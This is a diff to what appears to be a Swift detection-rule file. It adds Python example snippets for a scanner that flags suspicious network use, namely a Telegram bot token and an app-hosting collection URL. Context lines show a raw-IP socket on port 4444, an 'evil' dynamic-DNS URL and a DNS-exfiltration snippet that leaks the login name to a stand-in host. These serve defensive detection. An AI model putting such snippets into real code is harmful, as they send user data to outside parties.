@@ -53,6 +53,8 @@ enum PythonRuleExamples {
         PythonExample(.urlRawIP, "u = ↓'http://45.9.148.1:8080/p'"),
         PythonExample(.urlRawIP, "import socket\ns = socket.socket()\n↓s.connect(('45.9.1.2', 4444))"),
         PythonExample(.urlDynamicDNS, "u = ↓'http://evil.duckdns.org/x'"),
+        PythonExample(.urlAppHosting, "u = ↓'https://collect.pythonanywhere.com/' + 'log'"),
+        PythonExample(.urlWebhook, "bot = telebot.TeleBot(↓'8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac')"),
         PythonExample(.dnsLookup, "import socket\nip = ↓socket.gethostbyname('example.com')"),
         PythonExample(
             .dnsExfiltration, "import socket, os\nu = os.getlogin()\n↓socket.gethostbyname(u + '.x.example.net')"),
